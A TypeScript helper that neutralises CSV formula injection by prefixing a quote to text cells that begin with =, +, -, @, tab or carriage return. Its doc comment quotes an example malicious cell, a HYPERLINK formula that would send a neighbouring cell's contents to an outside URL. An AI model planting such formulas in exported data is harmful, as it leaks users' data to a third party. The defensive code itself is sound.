/**
 * CSV text cells a spreadsheet must show as text, not run (CSV injection). Excel and LibreOffice take
 * a cell starting with = + - @ (or a tab or carriage return before one) as a formula, so an imported
 * product, agent or operator name such as =HYPERLINK("http://…"&A1,"查看") would send the next
 * cell away when the file is opened. A leading ' makes them show the text as it was written.
 *
 * Only text goes through here: amounts and counts are written as numbers, so a negative amount
 * (-5.00) stays a number.
 */
export function inertCsvText(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/** csv-stringify's `cast` for rows of values: every string cell (headers too) inert, numbers as they are. */
export const INERT_CSV_CAST = { string: (value: string): string => inertCsvText(value) };
